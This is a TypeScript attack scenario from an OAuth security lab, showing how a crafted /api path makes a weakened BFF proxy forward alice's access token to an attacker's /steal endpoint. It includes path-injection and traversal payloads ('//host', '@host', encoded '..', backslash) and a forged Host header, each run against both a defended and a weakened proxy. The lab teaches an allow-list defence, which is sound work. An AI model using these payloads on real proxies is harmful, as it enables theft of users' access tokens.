import { defineAttack } from '../engine/define-attack.ts';
import { errorCodeOf, rawRequest } from '../library/attack-support.ts';
import { signInByRequests } from '../library/sign-in.ts';
import { findExchange, findExchanges } from '../library/exchanges.ts';

/**
 * A token leak through the BFF's own API proxy (RFC 9700 §4.9.1: access token phishing by a
 * counterfeit resource server; OAuth 2.0 for Browser-Based Applications, BFF section: the proxy
 * forwards only to the resource servers it is meant for). The BFF adds alice's access token to
 * whatever it forwards; if a request can choose where it goes, it can send the token to Mallory.
 */
export const [proxyTokenLeak, proxyTokenLeakWeakened] = defineAttack({
  id: 'attack-proxy-token-leak',
  title: "Token leak through the API proxy: a crafted /api path makes the BFF send alice's access token to the attacker",
  threat:
    "RFC 9700 §4.9.1: access token phishing by a counterfeit resource server, here through the BFF's API proxy (OAuth 2.0 for Browser-Based Applications, BFF section)",
  defence: 'proxy-allowlist',
  teaches:
    'The BFF attaches the access token to everything it forwards, so it must decide where requests go, never the request. It builds the upstream URL from the configured API origin and a path checked against an allow-list: "//host", "@host", absolute URLs, "..", encoded separators and backslashes are refused with 400 invalid_api_path, other routes and methods with 404 api_route_not_allowed. Without it, one crafted path sends alice\'s token to Mallory\'s server.',
  prerequisites: [
    'alice (Resource Owner) is signed in to the app in her browser (User Agent).',
    "The app's page builds an /api path from a value Mallory controls (a link, a shared note id): a confused SPA. The lab plays it by calling fetch() in alice's page.",
    "Mallory's server (http://[::1]:6660 by default) logs every request it receives, and keeps the Authorization header of anything sent to /steal.",
    "The BFF's allow-list: GET and POST /api/notes, forwarded to the notes API (http://127.0.0.1:4001 by default).",
  ],
  async run({ topology, lab, step, newUserAgent }, { defended }) {
    const spa = topology.spa.url;
    const attackerHost = new URL(topology.attacker.url).host;
    await lab.clearLoot();
    const browser = await newUserAgent();
    const page = await browser.newPage();

    await step(
      { actor: 'Resource Owner', action: 'signs in to the app', look: 'nothing unusual: her session now holds an access token for the notes API' },
      async (s) => {
        await signInByRequests(page, topology, 'alice');
        const user = await browser.request.get(`${spa}/bff/user`, { headers: { 'X-CSRF': '1' } });
        s.expect('she is signed in', 200, user.status());
        s.sees({ browser: 'bff_session (an opaque id)', bff: "alice's access token, added to every /api call it forwards" });
      },
    );

    const marks = await lab.traceMarks();
    const stealPath = `/api//${attackerHost}/steal`;
    await step(
      {
        actor: 'Client: SPA',
        action: `fed Mallory's value, the page calls ${stealPath} with its usual X-CSRF header`,
        look: "where the BFF sends the request, and alice's token with it",
      },
      async (s) => {
        const answer = await page.evaluate(async (path) => {
          const response = await fetch(path, { headers: { 'X-CSRF': '1' } });
          return { status: response.status, text: await response.text() };
        }, stealPath);
        const exchanges = await s.exchanges();
        const toAttacker = findExchange(exchanges, { from: 'bff', to: 'attacker' });
        if (defended) {
          s.expect(
            'the BFF refuses the path: 400 invalid_api_path',
            { status: 400, error: 'invalid_api_path' },
            { status: answer.status, error: errorCodeOf(answer.text) },
          );
          s.expect('and sends nothing anywhere: no request to the attacker', undefined, toAttacker?.url);
          s.expect('nor to the notes API', undefined, findExchange(exchanges, { from: 'bff', to: 'resource-api' })?.url);
          s.note(
            'The browser kept "//" in the path: fetch() normalises "." and ".." segments, not double slashes. Resolved against the API\'s URL, "//[::1]:6660/steal" would name another host (a network-path reference, RFC 3986 §4.2).',
          );
          s.sees({ browser: 'a 400 from its own origin', bff: 'a path it will not build a URL from', attacker: 'nothing' });
        } else {
          s.expectLeak("the BFF forwards to the attacker's server", `${topology.attacker.url}/steal`, toAttacker?.url);
          s.checkLeak(
            "with alice's access token in the Authorization header",
            'DPoP eyJ…',
            toAttacker?.requestHeaders.authorization,
            toAttacker?.requestHeaders.authorization?.startsWith('DPoP eyJ') ?? false,
          );
          s.expectLeak("and the page gets the attacker's answer, as if from the API", 204, answer.status);
          s.note(
            'The weakened proxy resolves the path as a URL reference against the API\'s base URL: "//[::1]:6660/steal" is a network-path reference, so the host is Mallory\'s. The BFF added the token as it does for every forwarded call.',
          );
          s.sees({
            browser: 'an empty 204, nothing suspicious',
            bff: 'one more forwarded call',
            attacker: "alice's access token, valid for the notes API until it expires",
          });
        }
      },
    );

    await step(
      {
        actor: 'User Agent',
        action: "sends the other classic tricks, raw (a browser would rewrite some of them first), with alice's cookie and X-CSRF",
        look: "the BFF's answer to each: which ones it forwards",
      },
      async (s) => {
        const headers = { Cookie: (await browser.cookies(spa)).map(({ name, value }) => `${name}=${value}`).join('; '), 'X-CSRF': '1' };
        const tricks: ReadonlyArray<{ method: string; path: string; refusal: { status: number; error: string } }> = [
          { method: 'GET', path: `/api/@${attackerHost}/steal`, refusal: { status: 400, error: 'invalid_api_path' } },
          { method: 'GET', path: `/api/http://${attackerHost}/steal`, refusal: { status: 400, error: 'invalid_api_path' } },
          { method: 'GET', path: `/api/\\${attackerHost}/steal`, refusal: { status: 400, error: 'invalid_api_path' } },
          { method: 'GET', path: '/api/notes/..%2F..%2Fadmin', refusal: { status: 400, error: 'invalid_api_path' } },
          { method: 'GET', path: '/api/%2e%2e%2fadmin', refusal: { status: 400, error: 'invalid_api_path' } },
          { method: 'GET', path: '/api/admin', refusal: { status: 404, error: 'api_route_not_allowed' } },
          { method: 'DELETE', path: '/api/notes', refusal: { status: 404, error: 'api_route_not_allowed' } },
        ];
        const answers = [];
        for (const trick of tricks) {
          const response = await rawRequest('user-agent', spa, trick.path, { method: trick.method, headers });
          answers.push({ request: `${trick.method} ${trick.path}`, status: response.status, error: errorCodeOf(response.body) });
        }
        const forwarded = findExchanges(await s.exchanges(), { from: 'bff' }).filter((event) => event.to === 'resource-api' || event.to === 'attacker');
        s.note('The app\'s origin (the dev server\'s proxy) turns "\\" into "/" on the way, so the backslash trick reaches the BFF as "//host".');
        if (defended) {
          s.expect(
            'each is refused with the exact error',
            tricks.map(({ method, path, refusal }) => ({ request: `${method} ${path}`, ...refusal })),
            answers,
          );
          s.expect(
            'and the BFF forwards none of them',
            [],
            forwarded.map((event) => `${event.method} ${event.url}`),
          );
          s.note(
            '400 invalid_api_path: the path has a character or sequence that could change the host or climb out of the API. 404 api_route_not_allowed: a clean path, but not a route (or method) the BFF forwards.',
          );
          s.sees({ bff: 'seven requests it refused to forward', api: 'nothing', attacker: 'nothing' });
        } else {
          s.expectLeak(
            'the BFF refuses none of them',
            [],
            answers.filter(({ error }) => error === 'invalid_api_path' || error === 'api_route_not_allowed'),
          );
          s.checkLeak(
            "it forwards them, each with alice's token: to the API's other routes, or to the attacker",
            'DPoP eyJ… on every forwarded call',
            forwarded.map((event) => `${event.method} ${event.url}`),
            forwarded.length > 0 && forwarded.every((event) => event.requestHeaders.authorization?.startsWith('DPoP eyJ') ?? false),
          );
          s.note(
            "The backslash trick went to Mallory too. The others stayed on the API host, but carried alice's token to routes the app never meant to expose.",
          );
          s.sees({ bff: 'no opinion about where requests go', api: "alice's token on routes the app never calls" });
        }
      },
    );

    await step(
      {
        actor: 'User Agent',
        action: `sends a plain GET /api/notes with a forged Host: ${attackerHost}`,
        look: 'where the BFF forwards it: the configured API, whatever Host says',
      },
      async (s) => {
        const headers = { Cookie: (await browser.cookies(spa)).map(({ name, value }) => `${name}=${value}`).join('; '), 'X-CSRF': '1', Host: attackerHost };
        const response = await rawRequest('user-agent', spa, '/api/notes', { headers });
        const exchanges = await s.exchanges();
        const owner = (JSON.parse(response.body || '{}') as { owner?: string }).owner;
        s.expect("the BFF serves alice's notes", { status: 200, owner: 'alice' }, { status: response.status, owner });
        s.expect('forwarded to the notes API, the one in its configuration', 'resource-api', findExchange(exchanges, { from: 'bff', path: '/notes' })?.to);
        s.expect('and nothing goes to the host the request named', undefined, findExchange(exchanges, { from: 'bff', to: 'attacker' })?.url);
        s.note(
          "The upstream origin comes from the BFF's configuration in both runs; a BFF that built it from the Host header (or X-Forwarded-Host) would leak the same way.",
        );
        s.sees({ bff: 'a Host header it does not use for routing', attacker: 'nothing' });
      },
    );

    await step(
      { actor: 'Attacker', action: 'looks at what reached her server from the BFF', look: "requests from bff in the attacker's trace, and what /steal kept" },
      async (s) => {
        const received = (await lab.traceSince(marks)).filter((event) => event.service === 'attacker' && event.direction === 'inbound' && event.from === 'bff');
        const kept = (await lab.loot()).filter((item) => item.label === 'steal').map((item) => item.data as { authorization?: string });
        if (defended) {
          s.expect(
            'no request from the BFF ever arrived',
            [],
            received.map((event) => `${event.method} ${event.url}`),
          );
          s.expect('so nothing was kept at /steal', [], kept);
          s.sees({ attacker: 'no token, no request' });
        } else {
          s.checkLeak(
            'requests from the BFF arrived, each with "Authorization: DPoP eyJ…"',
            'DPoP eyJ…',
            received.map((event) => event.requestHeaders.authorization),
            received.length > 0 && received.every((event) => event.requestHeaders.authorization?.startsWith('DPoP eyJ') ?? false),
          );
          s.checkLeak(
            "and /steal kept alice's access token (shortened by the lab)",
            'DPoP eyJ…',
            kept.map((item) => item.authorization),
            kept.length > 0 && kept.every((item) => item.authorization?.startsWith('DPoP eyJ') ?? false),
          );
          s.note(
            "A real attacker keeps the whole token and calls the notes API with it until it expires: its audience is the notes API, and that is where she uses it. The BFF's cookie, CSRF header and HttpOnly flag did their jobs; the proxy gave the token away.",
          );
          s.sees({ attacker: "alice's access token for the notes API", bff: 'no idea anything went wrong' });
        }
      },
    );
  },
});
